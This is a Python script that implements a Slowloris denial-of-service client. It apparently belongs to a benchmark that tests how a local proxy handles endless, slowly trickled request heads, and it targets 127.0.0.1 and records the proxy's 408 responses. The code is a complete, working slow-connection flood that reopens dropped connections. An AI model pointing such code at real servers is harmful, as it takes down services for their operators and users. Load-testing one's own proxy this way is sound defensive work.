#!/usr/bin/env python3
"""Slowloris attacker for bench/slowloris.sh.

Keeps N connections open to 127.0.0.1:PORT and trickles a request head that
never ends into each of them, one byte per connection every INTERVAL seconds
(default 1). The first byte goes as soon as a connection is established. A connection the proxy
closes (after its 408, or a reset) is reopened at once, so the proxy always
faces N slow heads.

Every 0.5 s it rewrites STATUS_FILE with one line of counters
(held=... connecting=... opened=... closed_by_proxy=... responses=...
connect_errors=...); on SIGTERM or SIGINT it writes the file a last time and
exits 0. "held" counts connections that are established and not closed by
the proxy; "responses" counts those closed after the proxy answered
something (its 408 status line).

usage: slowloris_attacker.py PORT N STATUS_FILE [INTERVAL]
"""

import collections
import errno
import heapq
import itertools
import os
import selectors
import signal
import socket
import sys
import time

# A head that never ends: the request line, then an endless header value.
# Byte k of a connection's stream is HEAD[k] for k < len(HEAD), then "a".
HEAD = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Slowloris: "


class Conn:
    __slots__ = ("sock", "sent", "connected", "answered")

    def __init__(self, sock):
        self.sock = sock
        self.sent = 0
        self.connected = False
        self.answered = False

    def next_byte(self):
        return HEAD[self.sent:self.sent + 1] if self.sent < len(HEAD) else b"a"


def main():
    port, n, status_file = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    interval = float(sys.argv[4]) if len(sys.argv) > 4 else 1.0
    sel = selectors.DefaultSelector()
    stats = collections.Counter()
    live = {}  # fileno -> Conn (connecting or connected)
    due = []  # heap of (time the next byte is due, sequence, Conn)
    seq = itertools.count()
    open_after = 0.0  # after a refused connect, wait before trying again
    stopping = False

    def stop(*_):
        nonlocal stopping
        stopping = True

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)

    def open_one(now):
        nonlocal open_after
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        rc = s.connect_ex(("127.0.0.1", port))
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            stats["connect_errors"] += 1
            open_after = now + 0.1  # proxy not listening: retry a bit later
            return
        c = Conn(s)
        live[s.fileno()] = c
        stats["opened"] += 1
        # Writable = connected (or failed: SO_ERROR tells).
        sel.register(s, selectors.EVENT_WRITE, c)

    def drop(c, reason):
        sel.unregister(c.sock)
        del live[c.sock.fileno()]
        c.sock.close()
        stats[reason] += 1
        if c.answered:
            stats["responses"] += 1

    def write_status():
        held = sum(1 for c in live.values() if c.connected)
        line = "held=%d connecting=%d opened=%d closed_by_proxy=%d responses=%d connect_errors=%d\n" % (
            held, len(live) - held, stats["opened"], stats["closed_by_proxy"], stats["responses"],
            stats["connect_errors"] + stats["connect_failed"])
        tmp = status_file + ".tmp"
        with open(tmp, "w") as f:
            f.write(line)
        os.replace(tmp, status_file)

    next_status = 0.0
    while not stopping:
        now = time.monotonic()
        # Keep N open: (re)open what is missing, at most 200 per turn so the
        # first 1,000 do not all sit in the accept backlog at once.
        missing = n - len(live)
        if missing > 0 and now >= open_after:
            for _ in range(min(missing, 200)):
                open_one(now)
                if open_after > now:
                    break
        # One byte to each connection whose turn has come.
        while due and due[0][0] <= now:
            _, _, c = heapq.heappop(due)
            if live.get(c.sock.fileno()) is not c:
                continue  # closed meanwhile
            try:
                c.sock.send(c.next_byte())
                c.sent += 1
            except BlockingIOError:
                pass
            except OSError:
                drop(c, "closed_by_proxy")
                continue
            heapq.heappush(due, (now + interval, next(seq), c))
        timeout = 0.05
        if due:
            timeout = max(0.0, min(timeout, due[0][0] - now))
        for key, _ in sel.select(timeout):
            c = key.data
            if live.get(c.sock.fileno()) is not c:
                continue
            if not c.connected:
                if c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    drop(c, "connect_failed")
                    continue
                c.connected = True
                sel.modify(c.sock, selectors.EVENT_READ, c)
                # The first byte at once; then one per interval.
                heapq.heappush(due, (time.monotonic(), next(seq), c))
                continue
            try:
                data = c.sock.recv(4096)
            except OSError:
                data = b""
            if data:
                c.answered = True  # the 408; the close follows
            else:
                drop(c, "closed_by_proxy")
        if now >= next_status:
            write_status()
            next_status = now + 0.5
    write_status()
    return 0


if __name__ == "__main__":
    sys.exit(main())
